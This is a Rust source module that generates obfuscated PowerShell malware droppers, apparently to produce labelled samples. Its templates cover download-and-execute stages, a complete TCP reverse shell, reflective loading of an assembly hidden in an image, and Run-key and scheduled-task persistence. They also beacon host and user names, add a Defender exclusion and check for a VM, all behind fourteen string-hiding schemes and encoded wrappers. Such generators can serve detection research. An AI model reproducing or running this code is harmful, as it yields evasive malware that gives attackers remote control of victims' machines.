//! PowerShell: stages of stealers and remote tools.

use super::super::{
    Dice, Truth, base64, codes, deflate, each, gzip, hex, keyed, put, quoted, reversed, wide, xored,
};
use super::{listed, padded, parted, table};

/// An expression whose value is `text`.
pub(super) fn hide(dice: &mut Dice, text: &str, before: &mut String) -> String {
    let (one, two) = (dice.name(), dice.name());
    let names = [("ONE", one.as_str()), ("TWO", two.as_str())];
    match dice.below(14) {
        0 => {
            let mark = dice.pick(&["x", "-", "~", "}"]).to_owned();
            format!(
                "(-join('{}'.Split('{mark}')|ForEach-Object{{[char][int]$_}}))",
                codes(text.bytes(), &mark)
            )
        }
        1 => format!(
            "(('{}' -split '(..)' | Where-Object {{ $_ }} | ForEach-Object {{ [char][Convert]::ToInt32($_, 16) }}) -join '')",
            hex(text.as_bytes())
        ),
        2 => {
            let key = dice.key();
            before.push_str(&format!("[byte[]]${one} = {}\n", codes(xored(text, key), ",")));
            format!("(-join(${one} | % {{ [char]($_ -bxor 0x{key:02x}) }}))")
        }
        3 => {
            before.push_str(&format!("${one} = '{}'\n", reversed(text)));
            format!("(-join ${one}[-1..-(${one}.Length)])")
        }
        4 => {
            let pieces = dice.pieces(text);
            let order = dice.order(pieces.len());
            let mut form = vec![String::new(); pieces.len()];
            let mut list = Vec::new();
            for (place, at) in order.iter().enumerate() {
                form[*at] = format!("{{{place}}}");
                list.push(pieces[*at].clone());
            }
            format!("('{}' -f {})", form.concat(), quoted(&list, '\'').join(","))
        }
        5 => {
            before.push_str(&put(
                "function @ONE@($t) {\n    $r = ''\n    for ($i = 2; $i -lt $t.Length; $i += 3) { $r += $t.Substring($i, 1) }\n    return $r\n}\n",
                &names,
            ));
            // Two letters in front, and two between.
            let coded = padded(dice, text, 2);
            let coded = format!("kv{}", &coded[..coded.len() - 2]);
            format!("({one} '{coded}')")
        }
        6 => {
            let (letters, places) = table(dice, text, "");
            before.push_str(&format!("${one} = '{letters}'.ToCharArray()\n"));
            format!("(${one}[{}] -join '')", listed(places, ","))
        }
        7 => {
            let coded = base64(&gzip(text.as_bytes()));
            format!(
                "(New-Object IO.StreamReader((New-Object IO.Compression.GZipStream([IO.MemoryStream][Convert]::FromBase64String('{coded}'), [IO.Compression.CompressionMode]::Decompress)), [Text.Encoding]::ASCII)).ReadToEnd()"
            )
        }
        8 => {
            let coded = base64(&wide(text));
            format!("[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{coded}'))")
        }
        9 => {
            let key = dice.name();
            before.push_str(&put(
                "function @ONE@([string]$h, [string]$k) {\n    $b = New-Object byte[] ($h.Length / 2)\n    for ($i = 0; $i -lt $h.Length; $i += 2) {\n        $b[$i / 2] = [Convert]::ToByte($h.Substring($i, 2), 16) -bxor [byte][char]$k[($i / 2) % $k.Length]\n    }\n    [System.Text.Encoding]::UTF8.GetString($b)\n}\n",
                &names,
            ));
            format!("({one} -h '{}' -k '{key}')", hex(&keyed(text, &key)))
        }
        10 => {
            let coded = each(text, " ", |it| format!("{it:08b}"));
            format!(
                "([string]::Join('', ('{coded}'.Split(' ') | % {{ [char][Convert]::ToInt16($_, 2) }})))"
            )
        }
        11 => {
            let mark = dice.pick(&["^", "*", "%%", "$#", "!@"]).to_owned();
            let coded = dice.littered(text, &mark);
            format!("([regex]::Replace('{coded}', [regex]::Escape('{mark}'), ''))")
        }
        12 => {
            // A string builder, filled from a table.
            let mut entries = String::new();
            let mut taken = String::new();
            for piece in dice.pieces(text) {
                let key = dice.name();
                entries.push_str(&format!("; {key} = '{piece}'"));
                taken.push_str(&format!("[void]${two}.Append(${one}.{key})\n"));
            }
            before.push_str(&format!(
                "${one} = @{{ {} }}\n${two} = New-Object System.Text.StringBuilder\n{taken}",
                entries.trim_start_matches("; ")
            ));
            format!("${two}.ToString()")
        }
        _ => {
            let add = 1 + dice.below(100);
            let numbers = listed(text.bytes().map(|it| usize::from(it) + add), ",");
            before.push_str(&put(
                "$@TWO@ = ''\nforeach ($@ONE@ in @(@N@)) { $@TWO@ += [char]($@ONE@ - @A@) }\n",
                &[names[0], names[1], ("N", &numbers), ("A", &add.to_string())],
            ));
            format!("${two}")
        }
    }
}

fn noise(dice: &mut Dice) -> String {
    let name = dice.name();
    match dice.below(8) {
        0 => format!("${name} = {}\n", dice.below(9999)),
        1 => "Start-Sleep -Seconds 3\n".to_owned(),
        2 => "$ErrorActionPreference = 'SilentlyContinue'\n".to_owned(),
        3 => format!("# {name}\n"),
        4 => "Add-MpPreference -ExclusionPath $env:TEMP -Force\n".to_owned(),
        5 => "[Net.ServicePointManager]::SecurityProtocol = [Net.SecurityProtocolType]::Tls12\n"
            .to_owned(),
        6 => format!(
            "${name} = (Get-WmiObject Win32_ComputerSystem).Manufacturer\nif (${name} -match 'QEMU') {{ ${name} = '' }}\n"
        ),
        _ => format!("function {name}($a) {{ return $a * {} }}\n", 2 + dice.below(8)),
    }
}

fn contact(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut before = String::new();
    let (name, file) = (dice.name(), dice.name());
    let body = match dice.below(13) {
        0 => {
            let url = truth.url(dice, &[".ps1", ".txt", ""]);
            let url = hide(dice, &url, &mut before);
            format!(
                "${name} = New-Object Net.WebClient\n${name}.Headers.Add('User-Agent', 'Mozilla/5.0')\n${name}.DownloadString({url}) | &('i'+'ex')\n"
            )
        }
        1 => {
            let url = truth.url(dice, &[".exe"]);
            let url = hide(dice, &url, &mut before);
            format!(
                "${name} = Join-Path $env:APPDATA '{file}.exe'\nInvoke-WebRequest -Uri ({url}) -OutFile ${name} -UseBasicParsing\nStart-Process -FilePath ${name} -WindowStyle Hidden\n"
            )
        }
        2 => {
            let (host, port) = truth.endpoint(dice);
            let host = hide(dice, &host, &mut before);
            format!(
                "${name} = New-Object System.Net.Sockets.TCPClient(({host}), {port})\n$st = ${name}.GetStream()\n[byte[]]$bt = 0..65535 | % {{ 0 }}\nwhile (($i = $st.Read($bt, 0, $bt.Length)) -ne 0) {{\n    $d = (New-Object Text.ASCIIEncoding).GetString($bt, 0, $i)\n    $o = (Invoke-Expression $d 2>&1 | Out-String)\n    $sb = [Text.Encoding]::ASCII.GetBytes($o + 'PS ' + (Get-Location).Path + '> ')\n    $st.Write($sb, 0, $sb.Length); $st.Flush()\n}}\n${name}.Close()\n"
            )
        }
        3 => {
            let url = truth.url(dice, &[".exe", ".zip"]);
            let url = hide(dice, &url, &mut before);
            format!(
                "Import-Module BitsTransfer\n${name} = {url}\nStart-BitsTransfer -Source ${name} -Destination \"$env:TEMP\\{file}.zip\" -Priority Foreground\nExpand-Archive \"$env:TEMP\\{file}.zip\" $env:TEMP -Force\n"
            )
        }
        4 => {
            // An image with an assembly behind a mark in it.
            let url = truth.url(dice, &[".jpg", ".png"]);
            let url = hide(dice, &url, &mut before);
            format!(
                "${name} = (New-Object System.Net.WebClient).DownloadData({url})\n$tx = [Text.Encoding]::UTF8.GetString(${name})\n$at = $tx.IndexOf('<<BASE64_START>>') + 16\n$to = $tx.IndexOf('<<BASE64_END>>')\n$as = [Reflection.Assembly]::Load([Convert]::FromBase64String($tx.Substring($at, $to - $at)))\n$as.GetType('{file}.Home').GetMethod('VAI').Invoke($null, $null)\n"
            )
        }
        5 => {
            let url = truth.url(dice, &[".dll"]);
            let url = hide(dice, &url, &mut before);
            format!(
                "${name} = {url}\n& \"$env:windir\\System32\\curl.exe\" -s -o \"C:\\ProgramData\\{file}.dll\" ${name}\nrundll32.exe \"C:\\ProgramData\\{file}.dll\",DllRegisterServer\n"
            )
        }
        6 => {
            let url = truth.url(dice, &[".ps1", ""]);
            let url = hide(dice, &url, &mut before);
            format!(
                "${name} = {url}\n$ac = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument \"-w hidden -c `\"irm ${name} | iex`\"\"\n$tr = New-ScheduledTaskTrigger -AtLogOn\nRegister-ScheduledTask -TaskName '{file}' -Action $ac -Trigger $tr -Force\n"
            )
        }
        7 => {
            // Names of members in pieces.
            let url = truth.url(dice, &[".ps1", ""]);
            let url = hide(dice, &url, &mut before);
            format!(
                "${name} = &('New-'+'Object') ('Net.We'+'bClient')\n${file} = ${name}.('Down'+'loadStr'+'ing').Invoke(({url}))\n.([string]::Join('', [char[]](73,69,88))) ${file}\n"
            )
        }
        8 => {
            let urls = [
                truth.url(dice, &[".exe", ""]),
                truth.url(dice, &["", ".php"]),
                truth.url(dice, &[""]),
            ];
            let words: Vec<String> = urls.iter().map(|url| hide(dice, url, &mut before)).collect();
            format!(
                "foreach (${name} in @(({}), ({}), ({}))) {{\n    try {{\n        (New-Object Net.WebClient).DownloadFile(${name}, \"$env:USERPROFILE\\{file}.exe\")\n        if ((Get-Item \"$env:USERPROFILE\\{file}.exe\").Length -ge 40000) {{ Invoke-Item \"$env:USERPROFILE\\{file}.exe\"; break }}\n    }} catch {{ }}\n}}\n",
                words[0], words[1], words[2]
            )
        }
        9 => {
            let url = truth.url(dice, &["", ".php"]);
            let url = hide(dice, &url, &mut before);
            format!(
                "${name} = @{{ id = $env:COMPUTERNAME; u = $env:USERNAME }} | ConvertTo-Json\n${file} = Invoke-RestMethod -Method Post -Uri ({url}) -Body ${name} -ContentType 'application/json'\nInvoke-Expression ${file}.cmd\n"
            )
        }
        10 => {
            // The parts of a URL, put together where they are asked for.
            let url = truth.url(dice, &[".ps1", ""]);
            let (base, path) = parted(&url);
            let base = hide(dice, &base, &mut before);
            format!(
                "${name} = {base}\n$rq = [System.Net.HttpWebRequest]::Create(\"${{{name}}}{path}\")\n$rq.Method = 'GET'\n$rd = New-Object IO.StreamReader($rq.GetResponse().GetResponseStream())\n[scriptblock]::Create($rd.ReadToEnd()).Invoke()\n"
            )
        }
        11 => {
            let url = truth.url(dice, &[".hta"]);
            let url = hide(dice, &url, &mut before);
            format!(
                "Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name '{file}' -Value ('mshta.exe ' + ({url}))\n"
            )
        }
        _ => {
            let url = truth.url(dice, &["", ".txt"]);
            let url = hide(dice, &url, &mut before);
            format!(
                "${name} = New-Object -ComObject 'Msxml2.XMLHTTP'\n${name}.open('GET', ({url}), $false)\n${name}.send()\nSet-Alias {file} Invoke-Expression\n{file} ${name}.responseText\n"
            )
        }
    };
    before + &body
}

fn wrap(dice: &mut Dice, script: &str) -> String {
    let name = dice.name();
    match dice.below(9) {
        0 => format!(
            "powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc {}\n",
            base64(&wide(script))
        ),
        1 => format!(
            "$s = New-Object IO.MemoryStream(,[Convert]::FromBase64String('{}'))\nIEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s, [IO.Compression.CompressionMode]::Decompress))).ReadToEnd()\n",
            base64(&gzip(script.as_bytes()))
        ),
        2 => format!(
            "&( $PSHome[4]+$PSHome[30]+'x') ( New-Object System.IO.StreamReader(( New-Object System.IO.Compression.DeflateStream([System.IO.MemoryStream][System.Convert]::FromBase64String( '{}' ), [System.IO.Compression.CompressionMode]::Decompress)), [System.Text.Encoding]::ASCII)).ReadToEnd()\n",
            base64(&deflate(script.as_bytes()))
        ),
        3 => {
            let key = dice.key();
            format!(
                ".( $env:ComSpec[4,24,25]-join'') ( ( '{}'.Split('n') | %{{ [char]($_ -bxor {key}) }}) -join '' )\n",
                codes(xored(script, key), "n")
            )
        }
        4 => format!(
            "${name} = '{}'\n$a = ${name}.ToCharArray(); [array]::Reverse($a)\n& ([scriptblock]::Create([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String(-join $a))))\n",
            reversed(&base64(script.as_bytes()))
        ),
        5 => {
            let coded = super::lines(&hex(script.as_bytes()), 64);
            let mut out = format!("${name} = ''\n");
            for line in coded {
                out.push_str(&format!("${name} += '{line}'\n"));
            }
            out + &format!(
                "$b = for ($i = 0; $i -lt ${name}.Length; $i += 2) {{ [Convert]::ToByte(${name}.Substring($i, 2), 16) }}\n[Text.Encoding]::ASCII.GetString([byte[]]$b) | Invoke-Expression\n"
            )
        }
        _ => script.to_owned(),
    }
}

pub(super) fn dropper(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut script = String::new();
    for _ in 0..1 + dice.below(2) {
        for _ in 0..dice.below(3) {
            script.push_str(&noise(dice));
        }
        script.push_str(&contact(dice, truth));
    }
    wrap(dice, &script)
}
